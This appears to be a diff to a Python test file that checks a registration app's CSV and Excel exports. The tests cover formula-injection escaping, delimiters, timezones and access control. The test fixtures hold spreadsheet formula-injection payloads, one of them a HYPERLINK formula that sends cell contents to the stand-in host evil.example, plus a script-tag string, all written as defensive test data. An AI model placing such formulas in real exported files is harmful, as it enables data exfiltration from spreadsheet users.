@@ -1,4 +1,5 @@
 import csv
+import datetime as dt
 import io
 
 from openpyxl import load_workbook
@@ -97,22 +98,64 @@ def test_exports_neutralise_formulas_and_keep_markup_as_text(organiser_app, dbse
     factories.RegistrationFactory(training=training, person=factories.PersonFactory(
         given_names='=HYPERLINK("http://example.com","x")', family_names="<script>alert(1)</script>",
         position="+1 fiscal", phone="-2", email="formula@example.com"))
-    factories.RegistrationFactory(training=training, person=factories.PersonFactory(given_names="@SUM(A1)",
-                                                                                   family_names="\tTab"))
+    factories.RegistrationFactory(training=training, person=factories.PersonFactory(
+        given_names="@SUM(A1)", family_names="\tTab", position='Paz;=HYPERLINK("http://evil.example/?"&A2,"ver")'))
     response = organiser_app.get(f"/organiser/trainings/{training.id}/registrations.csv")
-    assert response.content_type == "text/csv"
-    rows = list(csv.reader(io.StringIO(response.body.decode("utf-8-sig"))))
-    assert rows[0][0] == "Nombres"
+    assert response.content_type == "text/csv" and response.charset == "utf-8"
+    assert response.content_disposition.startswith("attachment;")
+    text = response.body.decode("utf-8-sig")
+    assert text.startswith('"Nombres";"Apellidos";')  # Excel in Spanish splits at ";"
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert rows[0][0] == "Nombres" and len(rows) == 3 and all(len(row) == len(rows[0]) for row in rows)
     cells = [cell for row in rows[1:] for cell in row]
     assert "'=HYPERLINK(\"http://example.com\",\"x\")" in cells and "'+1 fiscal" in cells and "'-2" in cells
     assert "'@SUM(A1)" in cells and "'\tTab" in cells and "<script>alert(1)</script>" in cells
+    assert "Paz;'=HYPERLINK(\"http://evil.example/?\"&A2,\"ver\")" in cells
     assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)
+    pieces = [piece.strip('" ') for line in text.splitlines() for separator in ",;" for piece in line.split(separator)]
+    assert not any(piece.startswith(("=", "+", "-", "@")) for piece in pieces)
     response = organiser_app.get(f"/organiser/trainings/{training.id}/registrations.xlsx")
+    assert response.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert response.charset is None
     sheet = load_workbook(io.BytesIO(response.body)).active
     values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
-    assert "'=HYPERLINK(\"http://example.com\",\"x\")" in values
+    assert '=HYPERLINK("http://example.com","x")' in values and "+1 fiscal" in values and "-2" in values
+    assert not any(isinstance(value, str) and value.startswith("'") for value in values)
     assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
     assert sheet.cell(row=1, column=1).value == "Nombres"
+
+
+def test_csv_export_in_english_uses_commas(organiser_app, dbsession):
+    training = factories.TrainingFactory()
+    factories.RegistrationFactory(training=training, person=factories.PersonFactory(given_names="Rosa",
+                                                                                   family_names="Paz"))
+    organiser_app.set_cookie("_LOCALE_", "en")
+    text = organiser_app.get(f"/organiser/trainings/{training.id}/registrations.csv").body.decode("utf-8-sig")
+    assert text.splitlines()[0].startswith('"Given names","Family names","Email"')
+    assert text.splitlines()[1].startswith('"Rosa","Paz",')
+
+
+def test_registered_on_is_in_the_regions_local_time(organiser_app, dbsession):
+    region = factories.RegionFactory(timezone="America/Lima")
+    training = factories.TrainingFactory(region=region)
+    registration = factories.RegistrationFactory(training=training)
+    registration.created_at = dt.datetime(2026, 3, 2, 15, 0, tzinfo=dt.UTC)  # 10:00 in Lima
+    dbsession.flush()
+    rows = list(csv.reader(io.StringIO(organiser_app.get(
+        f"/organiser/trainings/{training.id}/registrations.csv").body.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][-1] == "Inscrito el (America/Lima)" and rows[1][-1] == "2026-03-02 10:00"
+    sheet = load_workbook(io.BytesIO(organiser_app.get(
+        f"/organiser/trainings/{training.id}/registrations.xlsx").body)).active
+    header, cell = sheet.cell(row=1, column=sheet.max_column), sheet.cell(row=2, column=sheet.max_column)
+    assert header.value == "Inscrito el (America/Lima)"
+    assert cell.is_date and cell.value == dt.datetime(2026, 3, 2, 10, 0)
+
+
+def test_anonymous_cannot_export_registrations(testapp, dbsession):
+    training = factories.TrainingFactory()
+    for format in ("csv", "xlsx"):
+        response = testapp.get(f"/organiser/trainings/{training.id}/registrations.{format}")
+        assert response.status_int == 302 and "/login" in response.location
 
 
 def test_list_page_query_count_is_constant(organiser_app, dbsession, engine):
